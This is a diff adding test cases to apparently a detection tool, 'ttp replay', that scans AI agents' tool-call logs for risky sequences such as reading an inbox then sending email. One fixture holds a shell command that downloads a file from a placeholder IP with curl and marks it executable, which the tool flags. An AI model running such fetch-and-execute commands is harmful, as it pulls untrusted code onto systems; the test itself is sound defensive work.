@@ -138,3 +138,24 @@ Lines of an audit log are explained although they come in another order:
     tool_call A#call2 (audit.jsonl:1)
     tool_call A#call0 (audit.jsonl:2)
     tool_call A#call1 (audit.jsonl:3)
+
+Calls of a conversation that are hours apart are not inside a window:
+
+    $ cat > chat.jsonl <<'X'
+    > {"id":"c","messages":[{"role":"assistant","timestamp":"2026-01-01T00:00:00Z","tool_calls":[{"function":{"name":"list_tools","arguments":"{}"}}]},{"role":"assistant","timestamp":"2026-01-01T01:00:00Z","tool_calls":[{"function":{"name":"read_inbox","arguments":"{}"}}]},{"role":"assistant","timestamp":"2026-01-01T02:00:00Z","tool_calls":[{"function":{"name":"send_email","arguments":"{}"}}]}]}
+    > X
+    $ ttp replay chat.jsonl --sequence only -q --rule none
+    $ sed 's/T0[12]:00:0/T00:00:0/g' chat.jsonl | ttp replay - --format chat --sequence only -q --rule none | grep -o '"ts":"[^"]*".*"read_then_exfil"' | cut -c1-27
+    "ts":"2026-01-01T00:00:00Z"
+
+What an agent's shell was given as a list of words is looked into:
+
+    $ cat > words.jsonl <<'X'
+    > {"session_id":"w","tool":"shell","arguments":{"command":["ls"]}}
+    > {"session_id":"w","tool":"shell","arguments":{"command":["bash","-lc","curl -O http://192.0.2.1/a"]}}
+    > {"session_id":"w","tool":"shell","arguments":{"command":["chmod","+x","a b"]}}
+    > X
+    $ ttp replay words.jsonl --story w -q | grep ' shell '
+         0            shell                     read_only                 {"command":["ls"]}
+    ▶    1            shell                     filesystem_write   taint  {"command":["bash","-lc","curl -O http://192.0.2.…
+    ▶    2            shell                     code_execution            {"command":["chmod","+x","a b"]}
